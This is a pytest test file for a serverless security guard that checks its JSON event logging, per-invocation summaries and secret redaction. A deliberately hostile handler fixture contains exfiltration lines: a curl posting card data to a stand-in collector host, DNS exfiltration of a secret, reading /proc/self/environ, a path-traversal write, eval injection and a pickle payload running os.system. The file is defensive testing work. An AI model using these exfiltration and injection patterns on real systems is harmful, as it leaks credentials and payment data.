"""Security events: valid JSON lines with a stable shape, one summary per invocation, and never a
secret value or the payload."""

from __future__ import annotations

import json
import re

from conftest import FAKE_SECRET, http_event

FIELDS = [
    "faasguard_shield",
    "time",
    "function_name",
    "function_version",
    "request_id",
    "kind",
    "family",
    "mode",
    "detail",
]
TIME = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")
CARD = "4111-1111-1111-1111"  # a secret value carried in the request payload

NOISY = """
import json, os, pickle, socket
import faasguard_shield
faasguard_shield.install()

SCHEMA = {
    "type": "object",
    "required": ["card"],
    "properties": {"card": {"type": "string", "pattern": "^[0-9-]+$"}},
}

def attempt(action):
    try:
        action()
    except PermissionError:
        pass

@faasguard_shield.guard(schema=SCHEMA)
def handler(event, context):
    card = json.loads(event["body"])["card"]
    secret = os.environ["APP_DB_PASSWORD"]
    attempt(lambda: os.system("curl -d card=" + card + " https://collector.example"))
    attempt(lambda: open("/proc/self/environ").read())
    attempt(lambda: open("/tmp/../etc/" + secret, "w"))
    attempt(lambda: socket.getaddrinfo(secret + ".exfil.example", 53))
    attempt(lambda: eval("'" + card + "'"))
    attempt(lambda: pickle.loads(b"cos\\nsystem\\n(S'echo " + card.encode() + b"'\\ntR."))
    return {"statusCode": 200, "body": "{}"}
"""


def noisy_run(run):
    policy = {"process": "block", "files": "block", "network": "block", "code": "alert"}
    good = http_event(json.dumps({"card": CARD}))
    bad = http_event(json.dumps({"card": "not a card " + CARD + "!"}))
    return run(NOISY, [good, bad, good], {"FAASGUARD_SHIELD_POLICY": json.dumps(policy)})


def test_every_line_is_json_with_the_documented_fields(run) -> None:
    result = noisy_run(run)
    event_lines = [line for line in result.stdout.splitlines() if '"faasguard_shield"' in line]
    assert len(event_lines) == len(result.events) > 10
    for line in event_lines:
        event = json.loads(line)
        assert list(event) == FIELDS
        assert event["faasguard_shield"] == 1
        assert TIME.match(event["time"])
        assert event["kind"] in ("installed", "alert", "block", "rejected", "summary")
        assert event["function_name"] == "shield-test-fn"
        assert event["function_version"] == "7"
        assert isinstance(event["detail"], dict)
        if event["kind"] in ("alert", "block"):
            assert event["family"] in ("process", "network", "files", "code", "tamper")
            assert event["mode"] == event["kind"]


def test_request_id_is_carried_into_every_event_and_each_invocation_ends_with_a_summary(run) -> None:
    result = noisy_run(run)
    assert result.events[0]["kind"] == "installed" and result.events[0]["request_id"] is None
    # The harness prints each invocation's outcome after it: group the events between outcomes.
    groups: list[list[dict]] = [[]]
    for line in result.stdout.splitlines():
        data = json.loads(line)
        if "harness" in data:
            groups[-1].append(data)
            groups.append([])
        elif data.get("kind") != "installed":
            groups[-1].append(data)
    outcomes = []
    for group in groups[:-1]:
        *events, outcome = group
        assert events[-1]["kind"] == "summary"
        assert {e["request_id"] for e in events} == {outcome["request_id"]}
        summary = events[-1]["detail"]
        by_family: dict[str, int] = {}
        for e in events[:-1]:
            if e["kind"] in ("alert", "block"):
                by_family[f"{e['family']}.{e['kind']}"] = by_family.get(f"{e['family']}.{e['kind']}", 0) + 1
        assert summary["by_family"] == by_family
        assert summary["alert"] == sum(n for k, n in by_family.items() if k.endswith(".alert"))
        assert summary["block"] == sum(n for k, n in by_family.items() if k.endswith(".block"))
        outcomes.append((summary["outcome"], summary["rejected"], outcome["result"]["statusCode"]))
    assert outcomes == [("ok", 0, 200), ("rejected", 1, 400), ("ok", 0, 200)]


def test_events_never_carry_secret_values_or_the_payload(run) -> None:
    result = noisy_run(run)
    text = "\n".join(json.dumps(e) for e in result.events)
    assert FAKE_SECRET not in text
    assert CARD not in text
    first = [e for e in result.events if e["request_id"] == result.results[0]["request_id"]]
    details = [(e["family"], e["kind"], e["detail"]) for e in first if e["kind"] in ("alert", "block")]
    assert details == [
        ("process", "block", {"op": "system", "command": "sh", "shell": True, "program": "curl"}),
        ("files", "block", {"op": "read", "path": "/proc/self/environ", "call": "open"}),
        ("files", "block", {"op": "write", "path": "/etc/[redacted]", "call": "open"}),
        ("network", "block", {"op": "resolve", "host": "[redacted].exfil.example", "port": 53}),
        ("code", "alert", {"op": "compile", "caller": "handler.py", "line": 26}),
        ("code", "alert", {"op": "pickle", "target": "os.system"}),
        ("process", "block", {"op": "system", "command": "sh", "shell": True, "program": "echo"}),
    ]
    rejected = [e for e in result.events if e["kind"] == "rejected"]
    assert [e["detail"] for e in rejected] == [
        {"reason": "schema", "trigger": "apigw-http", "errors": [{"path": "$.card", "keyword": "pattern"}]}
    ]
    assert rejected[0]["family"] == "input" and rejected[0]["mode"] == "block"
    # The 400 response tells the caller what was wrong, not what they sent.
    response = result.results[1]["result"]
    assert CARD not in response["body"]
    assert json.loads(response["body"]) == {
        "message": "Request failed validation",
        "errors": [{"path": "$.card", "message": "does not match the pattern ^[0-9-]+$"}],
    }


def test_event_lines_per_invocation_are_capped_and_the_rest_counted(run) -> None:
    source = """
    import faasguard_shield
    faasguard_shield.install({"files": "block", "max_events": 3})

    @faasguard_shield.guard
    def handler(event, context):
        for _ in range(10):
            try:
                open("/proc/self/environ")
            except PermissionError:
                pass
        return "done"
    """
    result = run(source, [{}, {}])
    for request in (r["request_id"] for r in result.results):
        lines = [e for e in result.events if e["request_id"] == request]
        assert [e["kind"] for e in lines] == ["block"] * 3 + ["summary"]
        assert lines[-1]["detail"]["block"] == 10
        assert lines[-1]["detail"]["suppressed"] == 7
